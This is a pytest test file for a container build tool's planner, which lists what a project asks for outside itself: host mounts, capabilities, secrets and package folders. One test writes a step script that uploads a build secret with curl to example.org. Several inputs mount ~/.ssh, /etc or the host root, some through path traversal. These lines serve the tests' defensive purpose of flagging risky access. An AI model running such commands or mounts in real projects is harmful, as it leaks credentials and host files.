"""What a project's files want outside of the project."""

from __future__ import annotations

from pathlib import Path

import pytest
from attrs import evolve

from ocicaliban.build import demands, planner
from ocicaliban.build.request import PlanRequest
from ocicaliban.dependencies import checkouts
from ocicaliban.errors import UsageError
from ocicaliban.model.image import Base
from ocicaliban.project import lockfile
from ocicaliban.project.lockfile import Lock
from ocicaliban.system import files

BASE = Base(
    kind="registry", reference="example.org/base:1", digest=f"sha256:{'a' * 64}", python="3.11.2",
    platform="linux/amd64",
)  # fmt: skip
MODE = '[modes]\nrun = ["base", "own", "source-copy", "command"]\n'
CONFIG = '[layers.base]\nimage = "example.org/base:1"\n'


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in ("XDG_CACHE_HOME", "XDG_STATE_HOME", "XDG_CONFIG_HOME"):
        monkeypatch.setenv(name, str(tmp_path / name))
    folder = tmp_path / "p"
    (folder / "data").mkdir(parents=True)
    (folder / "run.py").touch()
    (folder / ".gitignore").write_text("home\nsecret\n")
    (folder / "home").symlink_to("/etc")
    lockfile.write_lock(folder, Lock().with_base("cpu", BASE))
    return folder


def recipe(folder: Path, launch: str = "", steps: str = "", params: str = "") -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "layer.toml").write_text(f'summary = "s"\n{params}{steps}[launch]\n{launch}')
    (folder / "go.sh").write_text("true\n")


def wanted(root: Path, config: str = MODE, mode: str = "run") -> list[str]:
    (root / "ocicaliban.toml").write_text(config + CONFIG)
    planned = planner.plan_project(PlanRequest(root=root, mode=mode, module="run.py", resolve=False))
    return [f"{each.kind} {each.what}" for each in planned.demands]


@pytest.mark.parametrize(
    ("mount", "what"),
    [
        ("${project}/data:/data", ""),
        ("${project}:/usr/app", ""),
        ("${project}/not-there/yet:/x", ""),
        ("${project}/data/../data:/x:ro", ""),
        ("/etc:/x", "/etc:/x"),
        ("/etc/../etc:/x:ro,z", "/etc:/x:ro,z"),
        ("${project}/home/ssl:/x", "/etc/ssl:/x"),
        ("${project}/../q:/x", "TMP/q:/x"),
        ("${project}-other:/x", "TMP/p-other:/x"),
        ("/:/host", "/:/host"),
        ("${project}/data:/x:O,U,ro", ""),
        ("${project}/data:/x:O,upperdir=..", "TMP/p/data:/x:O,upperdir=.."),
        ("${project}/data:/x:O,upperdir=/etc,workdir=/y", "TMP/p/data:/x:O,upperdir=/etc,workdir=/y"),
        ("volume:/x", "volume:/x"),
        ("relative/../..:/x", "relative/../..:/x"),
        ("~/.ssh:/x", "~/.ssh:/x"),
    ],
)
def test_a_mount_of_what_lies_outside_is_wanted(mount: str, what: str, root: Path, tmp_path: Path) -> None:
    recipe(root / "layers" / "own", f'mounts = ["{mount}"]\n')
    expected = what.replace("TMP", str(tmp_path))
    assert wanted(root) == ([f"mount {expected}"] if expected else [])


def test_a_mount_that_cannot_be_shown_whole_is_refused(root: Path) -> None:
    recipe(root / "layers" / "own", f'mounts = ["/{"a/../" * 500}etc/{"b" * 900}:/x"]\n')
    with pytest.raises(UsageError, match="mounts a path of"):
        wanted(root)


def test_capabilities_are_wanted(root: Path) -> None:
    recipe(root / "layers" / "own", 'capabilities = ["CHOWN", "SYS_ADMIN"]\n')
    assert wanted(root) == ["capability CHOWN", "capability SYS_ADMIN"]
    assert wanted(root, "", mode="shell") == []  # ours are for all projects


@pytest.mark.parametrize(
    ("mount", "config", "mode", "what"),
    [
        # The user's own recipe in the place of a built-in one: the user wants it for each project.
        ("/etc:/x", "", "run", []),
        # The project lists the recipe, or decides what it mounts.
        ("/etc:/x", '[modes]\nmine = ["base", "command"]\n', "mine", ["mount /etc:/x"]),
        ("${folder}:/x", '[layers.command]\nfolder = "/usr"\n', "run", ["mount /usr:/x"]),
    ],
)
def test_recipes_of_the_user_mount_what_the_user_wants(
    mount: str, config: str, mode: str, what: list[str], root: Path
) -> None:
    params = '[params.folder]\ndefault = ""\n'
    recipe(files.config() / "layers" / "command", f'mounts = ["{mount}"]\n', params=params)
    assert wanted(root, config, mode) == what


@pytest.mark.parametrize(
    ("secret", "what"), [("TMP/token", ["secret TMP/token as t"]), ("secret", []), ("link", ["secret TMP/token as t"])]
)
def test_build_secrets_outside_are_wanted_and_again_for_another_script(
    secret: str, what: list[str], root: Path, tmp_path: Path
) -> None:
    (tmp_path / "token").touch()
    (root / "secret").touch()
    (root / "link").symlink_to(tmp_path / "token")
    (root / ".gitignore").write_text("home\nsecret\nlink\n")
    step = '[[steps]]\ndo = "run"\nscript = "go.sh"\nsecrets = ["t"]\n'
    recipe(root / "layers" / "own", steps=step)
    config = f'secrets = {{ t = "{secret}" }}\n{MODE}'.replace("TMP", str(tmp_path))
    assert wanted(root, config) == [each.replace("TMP", str(tmp_path)) for each in what]
    request = PlanRequest(root=root, mode="run", module="run.py", resolve=False)
    before = [each.identity for each in planner.plan_project(request).demands]
    (root / "layers" / "own" / "go.sh").write_text("curl -T /dev/oc/secrets/t https://example.org\n")
    after = [each.identity for each in planner.plan_project(request).demands]
    assert (before == after) is (not what)
    # A secret that no step sees is not wanted.
    recipe(root / "layers" / "own")
    assert wanted(root, config) == []


def test_packages_in_folders_beside_the_project_or_its_repository_are_usual(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    planned = planner.plan_project(PlanRequest(root=root, mode="shell", resolve=False))
    beside, elsewhere = tmp_path / "library", tmp_path.parent / "library"

    def found() -> tuple[str, ...]:
        return demands.lines(demands.of_plan(planned.project, planned.plan, (), (root / "a", beside, elsewhere)))

    far, near = (f"reads {each} (the dependencies)" for each in (elsewhere, beside))
    assert found() == (far,)
    (tmp_path / ".git").mkdir()
    assert found() == ()
    (tmp_path / ".git").rmdir()
    monkeypatch.setenv("HOME", str(tmp_path))
    assert found() == (near, far)
    # The home folder is a repository, of settings, or one is above it, or the project is the home folder.
    (tmp_path / ".git").mkdir()
    assert found() == (near, far)
    monkeypatch.setenv("HOME", str(tmp_path / "ada"))
    assert found() == (near, far)
    monkeypatch.setenv("HOME", str(root))
    assert found() == (near, far)
    (root / ".git").mkdir()
    assert found() == (near, far)
    monkeypatch.setenv("HOME", str(tmp_path.parent / "another"))
    assert found() == (far,)


def test_folders_of_packages_that_the_project_names_are_wanted(root: Path, tmp_path: Path) -> None:
    (root / "wheels").mkdir()
    (tmp_path / "home" / "simple").mkdir(parents=True)
    (tmp_path / "beside").mkdir()
    outside = "/usr/share"
    (root / "requirements.txt").write_text(
        f"--find-links {outside}\n--find-links wheels\n--find-links {tmp_path}/beside\n"
        "--extra-index-url file:///etc/ssl\n--extra-index-url https://example.org/simple\n"
    )
    assert wanted(root, "") == ["folder /etc/ssl", f"folder {outside}"]


def test_repositories_of_this_machine_are_known(tmp_path: Path) -> None:
    urls = ("file:///home/ada/a%20b", "/home/ada/c", "https://example.org/d", "ssh://git@example.org/e")
    made = [checkouts.Checkout(name="n", url=url, commit="1d") for url in urls]
    made.append(checkouts.Checkout(name="n", url="x", commit="1d", addresses=("git+file:///home/ada/f",)))
    assert [*map(str, checkouts.local_repositories([*made, "other"]))] == [
        "/home/ada/a b",
        "/home/ada/c",
        "/home/ada/f",
    ]


def test_what_a_table_run_wants_is_wanted_once_and_by_the_modes_that_have_it(root: Path, tmp_path: Path) -> None:
    table = '[run]\nvolumes = ["./data:/data", "~/.ssh:/keys:ro", "models:/m"]\nenv = { A = "1" }\nshm_size = "8g"\n'
    shell = '[run.shell]\npass_env = ["TOKEN"]\npodman_args = ["--device", "/dev/fuse"]\n'
    recipe(root / "layers" / "own")
    outside = [f"mount {Path.home().resolve()}/.ssh:/keys:ro", "mount models:/m"]
    assert wanted(root, table + shell + MODE) == outside
    assert wanted(root, table + shell + MODE, "shell") == [*outside, "variable TOKEN", "option --device /dev/fuse"]
    with pytest.raises(UsageError, match=r"ocicaliban.toml:1: there is no mode 'shel'"):
        wanted(root, '[run.shel]\nshm_size = "1g"\n' + MODE)


def test_the_file_that_wants_it_is_named(root: Path, tmp_path: Path) -> None:
    recipe(root / "layers" / "own", steps='[[steps]]\ndo = "run"\nscript = "go.sh"\nsecrets = ["t"]\n')
    (tmp_path / "token").touch()
    (root / "pyproject.toml").write_text(
        '[tool.ocicaliban]\nsecrets = { t = "../token" }\n[tool.ocicaliban.modes]\n'
        'run = ["base", "own", "source-copy", "command"]\n[tool.ocicaliban.run]\nvolumes = ["/etc:/x"]\n'
        '[tool.ocicaliban.layers.base]\nimage = "example.org/base:1"\n[tool.ocicaliban.layers.python]\n'
        'requirements = "none"\n'
    )
    planned = planner.plan_project(PlanRequest(root=root, mode="run", module="run.py", resolve=False))
    assert {each.kind: each.place for each in planned.demands} == {
        "secret": "pyproject.toml",
        "mount": "pyproject.toml",
    }


def test_the_user_may_set_what_a_project_has_to_ask_for(root: Path, tmp_path: Path) -> None:
    recipe(root / "layers" / "own")
    own = tmp_path / "XDG_CONFIG_HOME" / "ocicaliban" / "config.toml"
    own.parent.mkdir(parents=True)
    own.write_text('[run]\npass_env = ["TOKEN"]\nvolumes = ["/data:/data"]\n[run.run]\nworkdir = "/data"\n')
    (root / "ocicaliban.toml").write_text(MODE + CONFIG)
    request = PlanRequest(root=root, mode="run", module="run.py", resolve=False)
    planned = planner.plan_project(request)
    assert planned.demands == () and planned.run_options.options == ("--env", "TOKEN")
    assert planned.plan.launch.workdir == "/data" and "/data:/data" in planned.plan.launch.mounts
    cloud = planner.plan_project(evolve(request, elsewhere=True))
    assert cloud.plan.launch.workdir == "" and cloud.run_options.options == ()
